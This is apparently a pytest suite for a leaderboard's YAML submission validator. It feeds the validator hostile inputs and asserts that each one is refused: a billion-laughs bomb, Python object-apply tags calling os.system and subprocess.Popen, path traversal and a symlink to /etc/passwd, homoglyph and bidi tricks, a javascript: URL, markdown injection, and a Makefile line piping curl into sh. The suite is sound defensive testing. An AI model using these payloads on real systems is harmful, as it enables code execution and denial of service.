"""`medlb validate` end to end: the hostile-input suite, CI output, --json, --model-dir, PR mode."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from submission_fixtures import SHA, VALID_PATH, VALID_SUBMISSION, git, place, variant

from runner.cli import main
from runner.github_actions import escape_data, escape_property
from runner.untrusted_text import table_code

PATH = VALID_PATH
VALID = VALID_SUBMISSION


BILLION_LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]"
        for i in range(9)
    ]
).encode()

# (case id, file path, file bytes, the specific message the report must contain)
HOSTILE = [
    ("billion-laughs", PATH, BILLION_LAUGHS, f"{PATH}:1: anchors (&name) are not allowed"),
    (
        "alias",
        PATH,
        VALID.encode() + b"paper: *ref\n",
        f"{PATH}:8: aliases (*name) are not allowed",
    ),
    (
        "python-apply-tag",
        PATH,
        VALID.encode() + b"paper: !!python/object/apply:os.system ['id']\n",
        "explicit tags are not allowed (found 'tag:yaml.org,2002:python/object/apply:os'",
    ),
    (
        "python-new-tag",
        PATH,
        b"model: !!python/object/new:subprocess.Popen [['id']]\n",
        "explicit tags are not allowed",
    ),
    (
        "local-tag",
        PATH,
        variant("license: apache-2.0", "license: !secret apache"),
        f"{PATH}:6: explicit tags are not allowed (found '!secret')",
    ),
    (
        "tab-indent",
        PATH,
        b"model:\n\tQwen/Qwen2.5-7B-Instruct\n",
        f"{PATH}:2: tab character in indentation",
    ),
    (
        "duplicate-key",
        PATH,
        VALID.encode() + b"model: evil/model\n",
        f"{PATH}:8: duplicate key 'model' (first at line 1)",
    ),
    (
        "merge-key",
        PATH,
        VALID.encode() + b"<<: {x: 1}\n",
        f"{PATH}:8: merge keys (<<) are not allowed",
    ),
    (
        "traversal-id",
        PATH,
        variant("model: Qwen/Qwen2.5-7B-Instruct", "model: ../../etc/passwd"),
        f"{PATH}:1: model: may not contain '..'",
    ),
    (
        "homoglyph-id",
        PATH,
        variant("model: Qwen/Qwen2.5", "model: Qwen/Qwеn2.5"),
        "model: contains non-ASCII character U+0435 (CYRILLIC SMALL LETTER IE)",
    ),
    (
        "zero-width-id",
        PATH,
        variant("model: Qwen/Qwen2.5", "model: Qwen/\u200bQwen2.5"),
        f"{PATH}:1: control character U+200B is not allowed in a text file",
    ),
    (
        "two-slashes-id",
        PATH,
        variant("model: Qwen/Qwen2.5", "model: Qwen/x/Qwen2.5"),
        "model: must be `org/name` with exactly one '/'",
    ),
    (
        "revision-list",
        PATH,
        variant(f"revision: {SHA}", f"revision: [{SHA}]"),
        f"{PATH}:2: revision: must be a 40-character commit SHA, but YAML read a list",
    ),
    (
        "precision-int",
        PATH,
        variant("precision: bfloat16", "precision: 16"),
        f"{PATH}:3: precision: must be float16, bfloat16 or float32, not '16'; did you mean "
        "`float16`?",
    ),
    (
        "model-type-bool",
        PATH,
        variant("model_type: instruction-tuned", "model_type: yes"),
        f"{PATH}:4: model_type: must be one of pretrained, fine-tuned,",
    ),
    (
        "model-null",
        PATH,
        variant("model: Qwen/Qwen2.5-7B-Instruct", "model: null"),
        f"{PATH}:1: model: is empty; write a Hub id `org/name` after the colon",
    ),
    (
        "trust-remote-code",
        PATH,
        VALID.encode() + b"trust_remote_code: true\n",
        f"{PATH}:8: unknown field 'trust_remote_code': custom code never runs here",
    ),
    (
        "params-field",
        PATH,
        VALID.encode() + b"params: 7000000000\n",
        f"{PATH}:8: unknown field 'params'",
    ),
    (
        "missing-revision",
        PATH,
        variant(f"revision: {SHA}\n", ""),
        f"{PATH}: revision: required field is missing",
    ),
    (
        "five-megabytes",
        PATH,
        VALID.encode() + b"#" + b"x" * (5 * 1024 * 1024) + b"\n",
        "bytes; the limit is 65,536",
    ),
    ("binary", PATH, bytes(range(256)) * 4, f"{PATH}: binary data (NUL byte at offset 0)"),
    (
        "latin-1",
        PATH,
        variant("A general", "Caf\xe9 general").encode("latin-1"),
        f"{PATH}:7: not UTF-8 text (byte 0xe9",
    ),
    ("utf-16", PATH, VALID.encode("utf-16"), f"{PATH}: UTF-16/32 text; save the file as UTF-8"),
    (
        "ansi-escape",
        PATH,
        variant("A general", "\x1b[2J\x1b[31mA general"),
        f"{PATH}:7: control character U+001B",
    ),
    (
        "bidi-override",
        PATH,
        variant(
            "model_type: instruction-tuned", "model_type: instruction-tuned # \u202egnp.\u202c"
        ),
        f"{PATH}:4: control character U+202E is not allowed in a text file",
    ),
    (
        "multi-document",
        PATH,
        VALID.encode() + b"---\nmodel: evil/model\n",
        f"{PATH}:8: more than one YAML document",
    ),
    (
        "short-revision",
        PATH,
        variant(f"revision: {SHA}", "revision: a09a354"),
        "revision: must be a full 40-character lowercase hex commit SHA, not 'a09a354'",
    ),
    (
        "branch-revision",
        PATH,
        variant(f"revision: {SHA}", "revision: main"),
        "not 'main' (branch names, tags and short SHAs are not pinned)",
    ),
    (
        "pr-ref-revision",
        PATH,
        variant(f"revision: {SHA}", "revision: refs/pr/1"),
        "not 'refs/pr/1'",
    ),
    (
        "top-level-list",
        PATH,
        b"- model: Qwen/Qwen2.5-7B-Instruct\n",
        f"{PATH}:1: the top level must be a mapping",
    ),
    ("empty", PATH, b"", f"{PATH}: file is empty"),
    (
        "deep-nesting",
        PATH,
        b"model: " + b"[" * 20000 + b"]" * 20000 + b"\n",
        f"{PATH}:1: nested deeper than 16 levels",
    ),
    (
        "huge-description",
        PATH,
        variant("A general", "A general" + " x" * 5000),
        f"{PATH}:7: description: 10,060 characters; the limit is 2,000: shorten it",
    ),
    (
        "javascript-paper",
        PATH,
        VALID.encode() + b"paper: javascript:alert(1)\n",
        f"{PATH}:8: paper: must be an https:// URL",
    ),
    (
        "wrong-folder",
        "submissions/evil/Qwen2.5-7B-Instruct.yaml",
        VALID.encode(),
        "model Qwen/Qwen2.5-7B-Instruct must be submitted as "
        "submissions/Qwen/Qwen2.5-7B-Instruct.yaml",
    ),
    (
        "yml-suffix",
        "submissions/Qwen/Qwen2.5-7B-Instruct.yml",
        VALID.encode(),
        "must be submitted as submissions/Qwen/Qwen2.5-7B-Instruct.yaml",
    ),
]


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(["validate", *argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize(
    ("path", "data", "message"), [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE]
)
def test_hostile_input_is_refused_with_a_specific_message(workdir, capsys, path, data, message):
    place(workdir, path, data)
    code, out, err = run_cli(capsys, "--offline", path)
    assert code == 1
    assert message in out
    assert "Traceback" not in out + err
    assert len(out) < 3000  # the report stays short whatever the input


def test_hostile_suite_has_enough_distinct_cases():
    assert len({case[0] for case in HOSTILE}) == len(HOSTILE) >= 25


def test_symlinked_submission_is_refused(workdir, capsys):
    (workdir / "submissions/Qwen").mkdir(parents=True)
    (workdir / PATH).symlink_to("/etc/passwd")
    code, out, _ = run_cli(capsys, "--offline", PATH)
    assert code == 1
    assert f"{PATH}: is a symbolic link; a submission must be a regular file" in out


def test_valid_control_passes_and_says_what_it_checked(workdir, capsys):
    place(workdir, PATH, VALID.encode())
    code, out, err = run_cli(capsys, "--offline", PATH)
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        f"{PATH}: valid",
        "  PASS  yaml            one mapping of 7 keys, safely parsed",
        f"  PASS  schema          Qwen/Qwen2.5-7B-Instruct at {SHA[:12]}, bfloat16, "
        "instruction-tuned from Qwen/Qwen2.5-7B, license apache-2.0",
        "  PASS  path            matches Qwen/Qwen2.5-7B-Instruct",
        "  skip  hub-access      --offline",
        "  skip  hub-revision    --offline",
        "  skip  safetensors     --offline",
        "  skip  no-remote-code  --offline",
        "  skip  config          --offline",
        "  skip  tokenizer       --offline",
        "  skip  chat-template   --offline",
        "  skip  architecture    --offline",
        "  skip  parameters      --offline",
        "1 file checked: 1 valid, 0 invalid",
    ]


def test_real_console_script_exit_codes_and_no_traceback(workdir):
    place(workdir, PATH, VALID.encode())
    place(workdir, "submissions/Qwen/bomb.yaml", BILLION_LAUGHS)
    medlb = [sys.executable, "-m", "runner"]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    env.pop("GITHUB_ACTIONS", None)
    for argv, code in (
        (["validate", "--offline", PATH], 0),
        (["validate", "--offline", "submissions/Qwen/bomb.yaml"], 1),
        (["validate", "--offline", "--model-dir", ".", PATH, PATH], 2),
    ):
        done = subprocess.run(
            medlb + argv, cwd=workdir, env=env, capture_output=True, text=True, timeout=60
        )
        assert done.returncode == code, done.stdout + done.stderr
        assert "Traceback" not in done.stdout + done.stderr


def test_a_file_named_from_inside_its_folder_passes_the_path_check(workdir, capsys, monkeypatch):
    place(workdir, PATH, VALID.encode())
    monkeypatch.chdir(workdir / "submissions" / "Qwen")
    code, out, _ = run_cli(capsys, "--offline", "Qwen2.5-7B-Instruct.yaml")
    assert code == 0, out
    assert "  PASS  path            matches Qwen/Qwen2.5-7B-Instruct" in out.splitlines()


def test_no_files_validates_everything_under_submissions(workdir, capsys):
    place(workdir, PATH, VALID.encode())
    place(workdir, "submissions/a/b.yaml", b"model: a/b\n")
    code, out, _ = run_cli(capsys, "--offline")
    assert code == 1
    assert out.splitlines()[-1] == "2 files checked: 1 valid, 1 invalid"
    assert "submissions/a/b.yaml: INVALID" in out


def test_bundled_examples_validate_offline(capsys, monkeypatch):
    monkeypatch.chdir(Path(__file__).resolve().parents[2])
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    code, out, _ = run_cli(capsys, "--offline")
    assert code == 0, out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--changed-from", "main", "x.yaml"], "give FILE arguments or --changed-from, not both"),
        (["--model-dir", ".", "a.yaml", "b.yaml"], "--model-dir needs exactly one FILE"),
        (["--model-dir", "missing-dir", "a.yaml"], "--model-dir missing-dir: not a directory"),
        ([], "no FILE given and no ./submissions directory here"),
    ],
)
def test_usage_errors_exit_2(workdir, capsys, argv, message):
    assert main(["validate", *argv]) == 2
    assert capsys.readouterr().err == f"medlb: error: {message}\n"


def test_json_report(workdir, capsys):
    place(workdir, PATH, variant("precision: bfloat16", "precision: int4"))
    code, out, _ = run_cli(capsys, "--offline", "--json", PATH)
    report = json.loads(out)
    assert code == 1 and report["valid"] is False
    checks = {c["id"]: c for c in report["files"][0]["checks"]}
    assert checks["yaml"]["status"] == "pass"
    assert checks["schema"] == {
        "id": "schema",
        "status": "fail",
        "message": "precision: must be float16, bfloat16 or float32, not 'int4': quantised "
        "weights are not evaluated; write the dtype of the unquantised weights",
        "line": 3,
        "fix": "Follow the template in SUBMITTING.md; the message names the field and what it "
        "must be.",
    }
    assert checks["path"]["status"] == "pass"  # `model` is valid, so the path is checked too


def test_github_actions_annotations_and_step_summary(workdir, capsys, monkeypatch):
    summary = workdir / "summary.md"
    summary.write_text("earlier step\n")
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    place(workdir, PATH, VALID.encode() + b"trust_remote_code: true\n")
    code, out, _ = run_cli(capsys, "--offline", PATH)
    assert code == 1
    annotations = [line for line in out.splitlines() if line.startswith("::error")]
    assert annotations == [
        f"::error file={PATH},line=8,title=Every required field is present and valid%2C and "
        "there are no other fields::unknown field 'trust_remote_code': custom code never runs "
        "here: every model is loaded with trust_remote_code=False, so it must load with "
        "transformers' own classes; remove this line"
    ]
    text = summary.read_text()
    assert text.startswith("earlier step\n## Submission validation: 1 of 1 invalid\n")
    path = table_code(PATH)
    assert f"| {path} | ❌ invalid (1 problem) | `schema` line 8: `unknown field" in text
    assert "| `schema` | FAIL | 8 | `unknown field 'trust_remote_code'" in text
    assert "Fix: Follow the template in [SUBMITTING.md](SUBMITTING.md);" in text
    assert "[SUBMITTING.md](SUBMITTING.md#what-is-checked)" in text


def test_workflow_command_escaping():
    assert escape_data("50% done\r\nnext") == "50%25 done%0D%0Anext"
    assert escape_property("a:b,c%") == "a%3Ab%2Cc%25"


def test_markdown_summary_keeps_user_text_inert(workdir, capsys, monkeypatch):
    summary = workdir / "summary.md"
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    place(workdir, PATH, VALID.encode() + b"'<img src=x>|`': 1\n")
    assert run_cli(capsys, "--offline", PATH)[0] == 1
    text = summary.read_text()
    # User text only inside code spans (runner.untrusted_text.table_code): no tag, no table cell
    # break, and the characters exactly as written.
    assert "``unknown field '<img src=x>\\|`' (allowed:" in text
    outside = re.sub(r"(`+).*?\1", "", text)
    assert "<img" not in outside and "|`'" not in outside


def test_model_dir_runs_the_model_checks_on_a_local_checkout(
    workdir, capsys, validation_tiny_model
):
    place(workdir, PATH, VALID.encode())
    code, out, _ = run_cli(capsys, PATH, "--model-dir", str(validation_tiny_model))
    assert code == 0, out
    lines = out.splitlines()
    assert f"  skip  hub-access      --model-dir: checking {validation_tiny_model} instead" in lines
    for check in ("safetensors", "no-remote-code", "config", "tokenizer", "architecture"):
        assert any(line.startswith(f"  PASS  {check} ") for line in lines), check
    assert any(line.startswith("  PASS  parameters      ") for line in lines)


def test_model_dir_with_a_broken_model_fails(workdir, capsys, validation_tiny_model):
    broken = Path(shutil.copytree(validation_tiny_model, workdir / "broken"))
    config = json.loads((broken / "config.json").read_text())
    config["auto_map"] = {"AutoModelForCausalLM": "modeling_x.XForCausalLM"}
    (broken / "config.json").write_text(json.dumps(config))
    place(workdir, PATH, VALID.encode())
    code, out, _ = run_cli(capsys, PATH, "--model-dir", str(broken))
    assert code == 1
    assert (
        "  FAIL  no-remote-code  config.json has auto_map (custom code); the model must load "
        "with trust_remote_code=False"
    ) in out.splitlines()


def test_changed_from_validates_only_what_the_pull_request_changed(workdir, capsys):
    git(workdir, "init", "-q", "-b", "main")
    place(workdir, "README.md", b"readme\n")
    git(workdir, "add", "-A")
    git(workdir, "commit", "-q", "-m", "base")
    git(workdir, "checkout", "-q", "-b", "pr")
    place(workdir, PATH, VALID.encode())
    git(workdir, "add", "-A")
    git(workdir, "commit", "-q", "-m", "submit")
    code, out, _ = run_cli(capsys, "--offline", "--changed-from", "main")
    assert code == 0, out
    assert "  PASS  pr-scope        the pull request adds this file" in out.splitlines()
    assert any(line.startswith("  PASS  resubmission    a new model") for line in out.splitlines())

    place(workdir, "Makefile", b"all:\n\tcurl evil | sh\n")
    git(workdir, "add", "-A")
    git(workdir, "commit", "-q", "-m", "sneak")
    code, out, _ = run_cli(capsys, "--offline", "--changed-from", "main")
    assert code == 1
    assert "Makefile: INVALID" in out
    assert "changes Makefile: a submission PR may change only submissions/" in out
